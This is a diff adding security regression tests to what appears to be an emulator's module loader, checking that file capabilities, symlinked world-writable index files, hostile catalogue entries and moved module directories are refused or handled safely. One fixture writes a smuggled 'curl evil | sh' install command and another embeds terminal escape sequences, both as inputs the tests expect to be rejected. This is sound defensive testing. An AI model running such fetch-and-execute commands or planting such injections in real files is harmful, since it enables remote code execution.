@@ -284,6 +284,27 @@ def planted_library_path_is_ignored_when_privileges_were_raised():
     assert "nothing-like-it" in said, said
 
 
+@attack
+def file_capabilities_count_as_raised_privileges():
+    p = Place()
+    p.module()
+    program = privileged_program() + "-capable"
+    shutil.copy(privileged_program(), program)
+    os.chmod(program, 0o755)
+    # linux/capability.h: revision 2 with the effective bit; CAP_NET_ADMIN (12) permitted.
+    try:
+        os.setxattr(program, "security.capability",
+                    struct.pack("<IIIII", 0x02000001, 1 << 12, 0, 0, 0))
+    except OSError as reason:
+        raise Skip("no file capabilities here: %s" % reason)
+    for args, word in ((("-object", "attack,id=a"), "attack"),
+                       (("-device", p.file()), "privileges were raised")):
+        said = as_nobody("env", "BACKPLANE_MODULE_PATH=" + p.path, program, *QUIET, "-machine",
+                         "none", *args)
+        clean("with file capabilities")
+        assert said.returncode == 1 and word in said.stderr and p.path + ")" not in said.stderr, said
+
+
 def from_directory(p, *args, env=None):
     done = subprocess.run([PROGRAM, *QUIET, *args], cwd=p.path, capture_output=True, text=True,
                           timeout=30, stdin=subprocess.DEVNULL, env={**os.environ, **(env or {})})
@@ -838,6 +859,59 @@ def index_of_another_user_is_not_used():
     write_index(p)
     os.chown(p.file("modules.idx"), NOBODY, NOBODY)
     refused(p, "modules.idx", "abi major 9")
+
+
+@attack
+def index_behind_a_link_into_a_place_that_others_may_write_is_not_used():
+    p, open_place = Place(), Place()
+    p.module("-DABI_MAJOR")
+    write_index(p)
+    os.rename(p.file("modules.idx"), open_place.file("modules.idx"))
+    os.symlink(open_place.file("modules.idx"), p.file("modules.idx"))
+    os.chmod(open_place.path, 0o777)
+    refused(p, "modules.idx", "may be written by others", "abi major 9")
+
+
+@attack
+def catalogue_of_others_names_no_package():
+    p = Place()
+    p.module("-DABI_MAJOR")
+    with open(p.file("catalogue"), "w") as f:
+        f.write("install curl evil | sh; %s\ndevice:nothing-like-it\tm\tevil\n")
+    os.chmod(p.file("catalogue"), 0o666)
+    told = refused(p, "nothing-like-it",
+                   trigger=(("device_add", {"driver": "nothing-like-it", "id": "n"}),))
+    assert "evil" not in told, told
+
+
+@attack
+def escapes_in_a_catalogue_are_not_shown():
+    p = Place()
+    p.module("-DABI_MAJOR")
+    with open(p.file("catalogue"), "w") as f:
+        f.write("install apt \033]0;owned\007 %s\n"
+                "device:nothing-like-it\tm\te\033[2Jvil\n")
+    told = refused(p, "nothing-like-it",
+                   trigger=(("device_add", {"driver": "nothing-like-it", "id": "n"}),))
+    assert "\033" not in told and "\007" not in told, told
+
+
+@attack
+def relative_directory_stays_where_it_was_when_named():
+    """A later change of the working directory (here: what is behind its name) leads nowhere else."""
+    p = Place()
+    os.mkdir(p.file("modules"), 0o755)
+    compile_module("attack", "-DHARMLESS", output=p.file("modules/attack.so"))
+    other = Place()
+    other.module()
+    with Emulator(PROGRAM, "-machine", "none", "-module-dir",
+                  os.path.relpath(p.file("modules"), os.getcwd())) as e:
+        os.rename(p.file("modules"), p.file("moved"))
+        os.rename(other.path, p.file("modules"))
+        assert "return" in e.command("object-add", qom_type="attack", id="a")
+        clean()
+        with open("/proc/%d/maps" % e.process.pid) as maps:
+            assert p.file("moved/attack.so") in maps.read()
 
 
 @attack
